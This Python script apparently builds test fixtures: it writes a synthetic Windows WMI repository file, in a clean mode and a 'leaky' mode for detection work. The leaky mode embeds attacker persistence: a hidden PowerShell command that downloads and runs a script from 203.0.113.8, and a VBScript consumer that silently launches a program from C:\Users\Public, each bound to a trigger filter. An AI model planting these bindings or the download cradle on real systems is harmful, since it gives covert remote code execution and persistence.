#!/usr/bin/env python3
"""Write a WMI repository objects file (OBJECTS.DATA, format 2.1 as Windows Vista and later
keep it in Windows\\System32\\wbem\\Repository) to argv[1]; argv[2] is `leaky` or `clean`.

No Linux tool writes a WMI repository, so this lays one out as the published descriptions of
the format do (libyal dtformats "WMI repository file format", Mandiant flare-wmi/python-cim):
8 KiB pages, each opening with a table of contents of 16-byte entries (record id, offset in
the page, size, CRC-32) closed by a zero entry, then the records. An instance record is the
SHA-256 of its upper-cased class name as 64 UTF-16LE hex digits, two FILETIMEs, the instance
block's size, then the block: the offset of the class name, property state bits, property
values (offsets into the heap), an empty qualifier block, the dynamic-block type, the heap's
size with its most significant bit set, and the heap of CIM strings (a flag byte, 0 for
ASCII or 1 for UTF-16LE, then the string and its terminator). Class definitions carry the
class and property names.

Every repository holds what a stock Windows Server has: the class definitions of the
standard consumers, and the Service Control Manager's binding of `SCM Event Log Filter` to
the NTEventLogEventConsumer `SCM Event Log Consumer`. The leaky one adds the persistence
attackers plant (Mandiant's and SANS's write-ups of WMI backdoors): a CommandLineEventConsumer
that fetches and runs a PowerShell script when a timer-like filter fires, bound with ASCII
strings, and an ActiveScriptEventConsumer whose VBScript runs a program from C:\\Users\\Public,
its strings and binding in UTF-16 (as WMI stores strings that are not plain ASCII)."""
import hashlib
import os
import struct
import sys
import zlib

PAGE = 0x2000
ASCII, UTF16 = 0, 1


def cim(s, enc=ASCII):
    if enc == ASCII:
        return b"\x00" + s.encode("ascii") + b"\x00"
    return b"\x01" + s.encode("utf-16-le") + b"\x00\x00"


def filetime():
    return struct.pack("<Q", 133_700_000_000_000_000 + int.from_bytes(os.urandom(3), "little"))


def instance(cls, values, enc=ASCII):
    """An instance of `cls` whose string properties are `values`, in order."""
    heap = cim(cls, ASCII)
    offsets = []
    for v in values:
        offsets.append(len(heap))
        heap += v if isinstance(v, bytes) else cim(v, enc)
    bits = bytes((len(values) * 2 + 7) // 8)
    block = struct.pack("<IB", 0, 0) + bits + b"".join(struct.pack("<I", o) for o in offsets)
    block += struct.pack("<I", 4) + b"\x01" + struct.pack("<I", len(heap) | 0x80000000) + heap
    digest = hashlib.sha256(cls.upper().encode("utf-16-le")).hexdigest().upper()
    return digest.encode("utf-16-le") + filetime() + filetime() + struct.pack("<I", len(block) + 4) + block


def class_definition(cls, parent, props):
    """A class definition: the parent's name, the class name and its property names."""
    heap = cim(cls) + b"".join(cim(p) for p in props)
    return (struct.pack("<I", len(parent)) + parent.encode("utf-16-le") + filetime()
            + struct.pack("<I", len(heap) + 4) + heap)


def sid():
    # CreatorSID: S-1-5-32-544 (BUILTIN\Administrators) as stored, a uint8 array.
    return b"\x00" + bytes([1, 2, 0, 0, 0, 0, 0, 5, 32, 0, 0, 0, 32, 2, 0, 0]) + b"\x00"


def records(mode):
    out = [
        class_definition("__EventConsumer", "__IndicationRelated", ["CreatorSID", "MachineName", "MaximumQueueSize"]),
        class_definition("CommandLineEventConsumer", "__EventConsumer",
                         ["Name", "CommandLineTemplate", "ExecutablePath", "WorkingDirectory", "RunInteractively"]),
        class_definition("ActiveScriptEventConsumer", "__EventConsumer",
                         ["Name", "ScriptingEngine", "ScriptText", "ScriptFileName", "KillTimeout"]),
        class_definition("NTEventLogEventConsumer", "__EventConsumer", ["Name", "SourceName", "EventID", "Category"]),
        class_definition("__FilterToConsumerBinding", "__IndicationRelated", ["Consumer", "Filter", "CreatorSID"]),
        class_definition("__EventFilter", "__IndicationRelated", ["Name", "Query", "QueryLanguage", "EventNamespace"]),
        # The Service Control Manager's subscription, on every Windows Server.
        instance("NTEventLogEventConsumer", [sid(), "SCM Event Log Consumer", "Service Control Manager"]),
        instance("__EventFilter", [sid(), "SCM Event Log Filter", "select * from MSFT_SCMEventLogEvent", "WQL", "root\\cimv2"]),
        instance("__FilterToConsumerBinding", [
            'NTEventLogEventConsumer.Name="SCM Event Log Consumer"', '__EventFilter.Name="SCM Event Log Filter"', sid()]),
    ]
    if mode != "clean":
        out += [
            instance("CommandLineEventConsumer", [
                sid(), "WindowsUpdater",
                "powershell.exe -NoP -W Hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.8/p.ps1')\"",
            ]),
            instance("__EventFilter", [
                sid(), "WindowsUpdater Filter",
                "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'",
                "WQL", "root\\cimv2"]),
            instance("__FilterToConsumerBinding", [
                'CommandLineEventConsumer.Name="WindowsUpdater"', '__EventFilter.Name="WindowsUpdater Filter"', sid()]),
            instance("ActiveScriptEventConsumer", [
                sid(), "Telemetry", "VBScript",
                'CreateObject("WScript.Shell").Run "C:\\Users\\Public\\svc.exe", 0',
            ], UTF16),
            instance("__EventFilter", [
                sid(), "Telemetry Filter", "SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'explorer.exe'",
                "WQL", "root\\cimv2"], UTF16),
            instance("__FilterToConsumerBinding", [
                cim('ActiveScriptEventConsumer.Name="Telemetry"', UTF16),
                cim('__EventFilter.Name="Telemetry Filter"', UTF16), sid()]),
        ]
    return out


def pages(recs):
    """Pack records into 8 KiB pages, each with its table of contents."""
    out, page, toc = [], [], []
    def flush():
        if not page:
            return
        head = b"".join(toc) + bytes(16)
        body = bytearray(head)
        for i, r in enumerate(page):
            struct.pack_into("<I", body, i * 16 + 4, len(body))
            body += r
        out.append(bytes(body) + bytes(PAGE - len(body)))
        page.clear(); toc.clear()
    for rid, r in enumerate(recs, start=0x1000):
        if (len(toc) + 2) * 16 + sum(map(len, page)) + len(r) > PAGE:
            flush()
        toc.append(struct.pack("<IIII", rid, 0, len(r), zlib.crc32(r)))
        page.append(r)
    flush()
    return b"".join(out)


if __name__ == "__main__":
    data = pages(records(sys.argv[2] if len(sys.argv) > 2 else "leaky"))
    # A free page at the end, as Windows grows the file.
    with open(sys.argv[1], "wb") as f:
        f.write(data + bytes(PAGE))
